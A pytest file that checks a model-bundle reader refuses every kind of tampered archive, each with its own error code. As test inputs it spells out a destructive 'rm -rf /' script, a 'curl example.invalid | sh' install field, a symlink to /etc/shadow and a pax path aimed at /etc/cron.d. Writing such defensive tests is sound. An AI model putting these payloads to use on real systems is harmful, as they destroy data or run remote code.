"""Every way a bundle can be tampered with is refused, each with its own error code.

One table: each row takes the good bundle (tiny ONNX model + golden vectors,
signed 2-of-2) and returns the bytes an attacker, a broken disk or a broken
builder would hand the device. Rows without an error are controls that must
still be accepted.
"""

from __future__ import annotations

import json
import math
import tempfile
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from modelfleet.bundle import Signature, SignatureEnvelope, SigningKey, read_bundle
from modelfleet.bundle._container import BLOCK, RECORD
from modelfleet.config import BundleLimits
from modelfleet.errors import BundleError, BundleFormatError, HashMismatchError, ManifestError, SignatureError

# ------------------------------------------------------------------ tampering


def _flip(data: bytes, at: int) -> bytes:
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]


def _replace_member(bundle, target: str, /, **changes) -> list:
    return [replace(m, **changes) if m.name == target else m for m in bundle.members()]


def _sorted_json(value: object, **dumps) -> bytes:
    """JSON with sorted keys and no spaces unless ``dumps`` says otherwise; floats allowed."""
    options = {"sort_keys": True, "separators": (",", ":"), "ensure_ascii": False, **dumps}
    return json.dumps(value, **options).encode("utf-8")


def _replace_sig(signature: Signature, **changes: str) -> Signature:
    return Signature(**{**signature.model_dump(), **changes})


def untouched(bundle) -> bytes:
    return bundle.data


def reassembled(bundle) -> bytes:
    return bundle.assemble(bundle.members())


def zero_padding_to_record(bundle) -> bytes:
    padding = -len(bundle.data) % RECORD
    assert padding > 0, "the good bundle is already a whole record; this control would prove nothing"
    return bundle.data + b"\x00" * padding


def flipped_model_byte(bundle) -> bytes:
    return _flip(bundle.data, bundle.offset("model.onnx") + 40)


def flipped_manifest_byte(bundle) -> bytes:
    return _flip(bundle.data, bundle.offset("manifest.json") + 40)


def flipped_signature_byte(bundle) -> bytes:
    data = bundle.data
    at = data.index(bundle.envelope.signatures[0].sig.encode("ascii")) + 20
    other = b"A" if data[at] != ord("A") else b"B"  # stays base64, so the signature itself is wrong
    return data[:at] + other + data[at + 1 :]


def flipped_padding_byte(bundle) -> bytes:
    golden = bundle.manifest.file("golden.npz")
    assert golden.size % BLOCK, "golden.npz fills its last block; there is no padding to flip"
    return _flip(bundle.data, bundle.offset("golden.npz") + golden.size)


def truncated_in_payload(bundle) -> bytes:
    return bundle.data[: bundle.offset("model.onnx") + bundle.manifest.file("model.onnx").size // 2]


def truncated_in_header(bundle) -> bytes:
    return bundle.data[: bundle.offset("model.onnx") - BLOCK + 100]


def truncated_end_marker(bundle) -> bytes:
    return bundle.data[:-BLOCK]


def appended_bytes(bundle) -> bytes:
    return bundle.data + b"#!/bin/sh\nrm -rf /\n"


def hidden_member_after_lone_zero_block(bundle) -> bytes:
    # The end marker is two zero blocks; after one, ``tar --ignore-zeros`` would still extract payload.sh.
    hidden = bundle.member("payload.sh", b"\x00" * BLOCK)
    return bundle.assemble(bundle.members(), end=b"\x00" * BLOCK + bundle.assemble([hidden]))


def extra_member_at_end(bundle) -> bytes:
    return bundle.assemble([*bundle.members(), bundle.member("extra.bin", b"not in the manifest")])


def duplicate_member(bundle) -> bytes:
    members = bundle.members()
    return bundle.assemble([*members[:3], members[2], *members[3:]])


def member_repeated_after_payload(bundle) -> bytes:
    members = bundle.members()
    return bundle.assemble([*members, members[2]])


def missing_member(bundle) -> bytes:
    return bundle.assemble([m for m in bundle.members() if m.name != "model.onnx"])


def missing_signature_member(bundle) -> bytes:
    return bundle.assemble(bundle.members()[:1])


def payload_order_swapped(bundle) -> bytes:
    manifest, signature, golden, model = bundle.members()
    return bundle.assemble([manifest, signature, model, golden])


def manifest_not_first(bundle) -> bytes:
    manifest, signature, *payload = bundle.members()
    return bundle.assemble([signature, manifest, *payload])


def path_traversal(bundle) -> bytes:
    return bundle.assemble(_replace_member(bundle, "golden.npz", name="../x"))


def absolute_path(bundle) -> bytes:
    return bundle.assemble(_replace_member(bundle, "golden.npz", name="/etc/x"))


def nested_path(bundle) -> bytes:
    return bundle.assemble(_replace_member(bundle, "golden.npz", name="a/b"))


def nested_path_in_ustar_prefix(bundle) -> bytes:
    return bundle.assemble(_replace_member(bundle, "golden.npz", prefix="a"))


def symlink_member(bundle) -> bytes:
    return bundle.assemble(_replace_member(bundle, "model.onnx", data=b"", typeflag=b"2", linkname="/etc/shadow"))


def hardlink_member(bundle) -> bytes:
    return bundle.assemble(_replace_member(bundle, "model.onnx", data=b"", typeflag=b"1", linkname="golden.npz"))


def directory_member(bundle) -> bytes:
    return bundle.assemble(_replace_member(bundle, "golden.npz", data=b"", typeflag=b"5"))


def pax_header_member(bundle) -> bytes:
    pax = bundle.member("golden.npz", b"30 path=../../../etc/cron.d/x\n", typeflag=b"x")
    manifest, signature, *payload = bundle.members()
    return bundle.assemble([manifest, signature, pax, *payload])


def oversized_member(bundle) -> bytes:
    data = bundle.payload["model.onnx"].read_bytes()
    return bundle.assemble(_replace_member(bundle, "model.onnx", data=data + b"\x00"))


def undersized_member(bundle) -> bytes:
    data = bundle.payload["model.onnx"].read_bytes()
    return bundle.assemble(_replace_member(bundle, "model.onnx", data=data[:-1]))


def same_size_model_replaced(bundle) -> bytes:
    size = bundle.manifest.file("model.onnx").size
    return bundle.assemble(_replace_member(bundle, "model.onnx", data=b"\x42" * size))


def manifest_over_limit(bundle) -> bytes:
    # Only the header claims the size: the reader must refuse before it reads (or allocates) the data.
    header = bundle.member("manifest.json", b"", size=BundleLimits().max_manifest_bytes + 1).header()
    return header + bundle.data[BLOCK:]


def signature_over_limit(bundle) -> bytes:
    header = bundle.member("manifest.sig", b"", size=BundleLimits().max_signature_bytes + 1).header()
    at = bundle.offset("manifest.sig") - BLOCK
    return bundle.data[:at] + header + bundle.data[at + BLOCK :]


def negative_size_in_header(bundle) -> bytes:
    return bundle.patch_header("manifest.json", 124, b"-0000000001\x00")


def corrupt_header_checksum(bundle) -> bytes:
    return bundle.patch_header("model.onnx", 136, b"1", fix_checksum=False)  # mtime digit, checksum left stale


def not_a_tar(bundle) -> bytes:
    return b"PK\x03\x04" + bundle.data[4:]


def declared_size_beyond_limit(bundle) -> bytes:
    manifest = bundle.manifest_dict()
    manifest["files"][1]["size"] = BundleLimits().max_member_bytes + 1
    return bundle.resign(_sorted_json(manifest))


def signed_by_unknown_key(bundle) -> bytes:
    return bundle.with_signatures([SigningKey.generate().sign(bundle.manifest.to_bytes())])


def below_threshold(bundle) -> bytes:
    return bundle.with_signatures(bundle.envelope.signatures[:1])


def duplicate_signature(bundle) -> bytes:
    first = bundle.envelope.signatures[0]
    return bundle.with_signatures([first, first])


def wrong_algorithm(bundle) -> bytes:
    return bundle.with_signatures([_replace_sig(s, alg="rsa-pss") for s in bundle.envelope.signatures])


def signature_envelope_not_json(bundle) -> bytes:
    return bundle.with_envelope(b"-----BEGIN SIGNATURE-----")


def signature_envelope_non_canonical(bundle) -> bytes:
    return bundle.with_envelope(_sorted_json(json.loads(bundle.envelope.to_bytes()), indent=1))


def signature_not_base64(bundle) -> bytes:
    return bundle.with_signatures([_replace_sig(s, sig="not base64!") for s in bundle.envelope.signatures])


def signature_envelope_lone_surrogate(bundle) -> bytes:
    return bundle.with_envelope(b'{"format":"modelfleet.sig.v1","signatures":[],"x":"\\ud800"}')


def signature_envelope_huge_integer(bundle) -> bytes:
    return bundle.with_envelope(b'{"format":"modelfleet.sig.v1","signatures":[],"x":' + b"9" * 5000 + b"}")


def signature_envelope_deeply_nested(bundle) -> bytes:
    depth = 30_000
    return bundle.with_envelope(b"[" * depth + b"]" * depth)


def empty_signature_list(bundle) -> bytes:
    return bundle.with_signatures([])


def too_many_signatures(bundle) -> bytes:
    extra = BundleLimits().max_signatures + 1 - len(bundle.envelope.signatures)
    strangers = [SigningKey.generate().sign(bundle.manifest.to_bytes()) for _ in range(extra)]
    return bundle.with_signatures([*bundle.envelope.signatures, *strangers])


def non_canonical_manifest(bundle) -> bytes:
    return bundle.resign(_sorted_json(bundle.manifest_dict(), indent=2))


def float_in_manifest(bundle) -> bytes:
    manifest = bundle.manifest_dict()
    manifest["evidence"]["golden"]["atol"] = 1e-05
    return bundle.resign(_sorted_json(manifest))


def duplicate_key_in_manifest(bundle) -> bytes:
    text = bundle.manifest.to_bytes()
    return bundle.resign(text.replace(b'{"behaviour":', b'{"behaviour":{},"behaviour":', 1))


def manifest_not_utf8(bundle) -> bytes:
    text = bundle.manifest.to_bytes()
    return bundle.resign(text.replace(b'"tiny-classifier"', b'"tiny-\xffclassifier"', 1))


def invalid_semver(bundle) -> bytes:
    manifest = bundle.manifest_dict()
    manifest["version"] = "1.2"
    return bundle.resign(_sorted_json(manifest))


def release_not_integer(bundle) -> bytes:
    manifest = bundle.manifest_dict()
    manifest["release"] = "3"
    return bundle.resign(_sorted_json(manifest))


def unknown_manifest_field(bundle) -> bytes:
    manifest = bundle.manifest_dict()
    manifest["install_script"] = "curl example.invalid | sh"
    return bundle.resign(_sorted_json(manifest))


def missing_manifest_field(bundle) -> bytes:
    manifest = bundle.manifest_dict()
    del manifest["files"]
    return bundle.resign(_sorted_json(manifest))


# ------------------------------------------------------------------ the table


@dataclass(frozen=True)
class Case:
    """A tampered bundle and the refusal it must meet (``error is None``: a control, accepted)."""

    name: str
    tamper: Callable[..., bytes]
    error: type[BundleError] | None = None
    code: str | None = None


CASES = [
    Case("untouched", untouched),
    Case("reassembled_by_the_test_kit", reassembled),
    Case("zero_padding_to_record", zero_padding_to_record),
    # bytes changed in place
    Case("flipped_model_byte", flipped_model_byte, HashMismatchError, "hash_mismatch"),
    Case("flipped_manifest_byte", flipped_manifest_byte, SignatureError, "bad_signature"),
    Case("flipped_signature_byte", flipped_signature_byte, SignatureError, "bad_signature"),
    Case("flipped_padding_byte", flipped_padding_byte, BundleFormatError, "bad_padding"),
    Case("same_size_model_replaced", same_size_model_replaced, HashMismatchError, "hash_mismatch"),
    # cut short or extended
    Case("truncated_in_payload", truncated_in_payload, BundleFormatError, "truncated"),
    Case("truncated_in_header", truncated_in_header, BundleFormatError, "truncated"),
    Case("truncated_end_marker", truncated_end_marker, BundleFormatError, "truncated"),
    Case("appended_bytes", appended_bytes, BundleFormatError, "trailing_data"),
    Case(
        "hidden_member_after_lone_zero_block", hidden_member_after_lone_zero_block, BundleFormatError, "trailing_data"
    ),
    # members: which, how many, in what order
    Case("extra_member_at_end", extra_member_at_end, BundleFormatError, "unknown_member"),
    Case("duplicate_member", duplicate_member, BundleFormatError, "duplicate_member"),
    Case("member_repeated_after_payload", member_repeated_after_payload, BundleFormatError, "duplicate_member"),
    Case("missing_member", missing_member, BundleFormatError, "missing_member"),
    Case("missing_signature_member", missing_signature_member, BundleFormatError, "missing_member"),
    Case("payload_order_swapped", payload_order_swapped, BundleFormatError, "member_order"),
    Case("manifest_not_first", manifest_not_first, BundleFormatError, "member_order"),
    # names and types
    Case("path_traversal", path_traversal, BundleFormatError, "path_traversal"),
    Case("absolute_path", absolute_path, BundleFormatError, "absolute_path"),
    Case("nested_path", nested_path, BundleFormatError, "nested_path"),
    Case("nested_path_in_ustar_prefix", nested_path_in_ustar_prefix, BundleFormatError, "nested_path"),
    Case("symlink_member", symlink_member, BundleFormatError, "symlink_member"),
    Case("hardlink_member", hardlink_member, BundleFormatError, "hardlink_member"),
    Case("directory_member", directory_member, BundleFormatError, "unsupported_member_type"),
    Case("pax_header_member", pax_header_member, BundleFormatError, "unsupported_member_type"),
    # sizes and headers
    Case("oversized_member", oversized_member, BundleFormatError, "oversized_member"),
    Case("undersized_member", undersized_member, HashMismatchError, "size_mismatch"),
    Case("manifest_over_limit", manifest_over_limit, BundleFormatError, "oversized_member"),
    Case("signature_over_limit", signature_over_limit, BundleFormatError, "oversized_member"),
    Case("declared_size_beyond_limit", declared_size_beyond_limit, BundleFormatError, "oversized_member"),
    Case("negative_size_in_header", negative_size_in_header, BundleFormatError, "bad_header"),
    Case("corrupt_header_checksum", corrupt_header_checksum, BundleFormatError, "bad_header"),
    Case("not_a_tar", not_a_tar, BundleFormatError, "bad_header"),
    # signatures
    Case("signed_by_unknown_key", signed_by_unknown_key, SignatureError, "unknown_key"),
    Case("below_threshold", below_threshold, SignatureError, "below_threshold"),
    Case("duplicate_signature", duplicate_signature, SignatureError, "duplicate_signature"),
    Case("wrong_algorithm", wrong_algorithm, SignatureError, "unsupported_algorithm"),
    Case("empty_signature_list", empty_signature_list, SignatureError, "no_signatures"),
    Case("too_many_signatures", too_many_signatures, SignatureError, "too_many_signatures"),
    Case("signature_envelope_not_json", signature_envelope_not_json, SignatureError, "malformed_signature"),
    Case("signature_envelope_non_canonical", signature_envelope_non_canonical, SignatureError, "malformed_signature"),
    Case("signature_not_base64", signature_not_base64, SignatureError, "malformed_signature"),
    Case("signature_envelope_lone_surrogate", signature_envelope_lone_surrogate, SignatureError, "malformed_signature"),
    Case("signature_envelope_huge_integer", signature_envelope_huge_integer, SignatureError, "malformed_signature"),
    Case("signature_envelope_deeply_nested", signature_envelope_deeply_nested, SignatureError, "malformed_signature"),
    # a trusted key signed something malformed (a builder gone wrong)
    Case("non_canonical_manifest", non_canonical_manifest, ManifestError, "non_canonical"),
    Case("float_in_manifest", float_in_manifest, ManifestError, "float_in_manifest"),
    Case("duplicate_key_in_manifest", duplicate_key_in_manifest, ManifestError, "duplicate_key"),
    Case("manifest_not_utf8", manifest_not_utf8, ManifestError, "not_utf8"),
    Case("invalid_semver", invalid_semver, ManifestError, "invalid_semver"),
    Case("release_not_integer", release_not_integer, ManifestError, "release_not_integer"),
    Case("unknown_manifest_field", unknown_manifest_field, ManifestError, "unknown_field"),
    Case("missing_manifest_field", missing_manifest_field, ManifestError, "missing_field"),
]
REFUSED = [pytest.param(case, id=case.name) for case in CASES if case.error is not None]
ACCEPTED = [pytest.param(case, id=case.name) for case in CASES if case.error is None]


def _write(tmp_path: Path, data: bytes) -> Path:
    path = tmp_path / "received.mfb"
    path.write_bytes(data)
    return path


def _tree(root: Path) -> list[Path]:
    return sorted(path.relative_to(root) for path in root.rglob("*"))


@pytest.mark.parametrize("case", REFUSED)
def test_tampered_bundle_is_refused_with_its_code(case, bundle, tmp_path):
    received = _write(tmp_path, case.tamper(bundle))

    with pytest.raises(BundleError) as refused:
        read_bundle(received, bundle.trusted)

    assert (type(refused.value), refused.value.code) == (case.error, case.code)


@pytest.mark.parametrize("case", REFUSED)
def test_refused_extraction_leaves_nothing_behind(case, bundle, tmp_path, monkeypatch):
    received = _write(tmp_path, case.tamper(bundle))
    store = tmp_path / "store"
    store.mkdir()
    # Anything written to the default temp dir or the working directory would land in tmp_path too.
    (tmp_path / "tmp").mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))
    monkeypatch.chdir(store)
    before = _tree(tmp_path)

    with pytest.raises(case.error):
        read_bundle(received, bundle.trusted, extract_to=store / "tiny-1.2.0")

    assert _tree(tmp_path) == before


@pytest.mark.parametrize("case", ACCEPTED)
def test_control_bundle_is_accepted_and_extracted(case, bundle, tmp_path):
    received = _write(tmp_path, case.tamper(bundle))

    verified = read_bundle(received, bundle.trusted, extract_to=tmp_path / "store" / "tiny-1.2.0")

    assert {name: path.read_bytes() for name, path in verified.files.items()} == {
        name: path.read_bytes() for name, path in bundle.payload.items()
    }


def test_table_names_every_case_once():
    names = [case.name for case in CASES]
    assert len(set(names)) == len(names)


def test_payload_is_not_read_before_signatures_verify(bundle, observed):
    manifest_bytes = bundle.manifest.to_bytes()
    envelope = SignatureEnvelope.of([SigningKey.generate().sign(manifest_bytes)]).to_bytes()
    stream = observed(bundle.with_envelope(envelope))
    signed_part_end = sum(BLOCK + len(data) + (-len(data) % BLOCK) for data in (manifest_bytes, envelope))

    with pytest.raises(SignatureError):
        read_bundle(stream, bundle.trusted)

    assert stream.high_water == signed_part_end


def test_manifest_is_not_parsed_before_signatures_verify(bundle, tmp_path):
    stranger = SigningKey.generate()
    manifest = bundle.manifest_dict()
    manifest["release"] = math.pi  # would be a ManifestError if the reader parsed it first
    received = _write(tmp_path, bundle.resign(_sorted_json(manifest), signers=[stranger]))

    with pytest.raises(SignatureError) as refused:
        read_bundle(received, bundle.trusted)

    assert refused.value.code == "unknown_key"
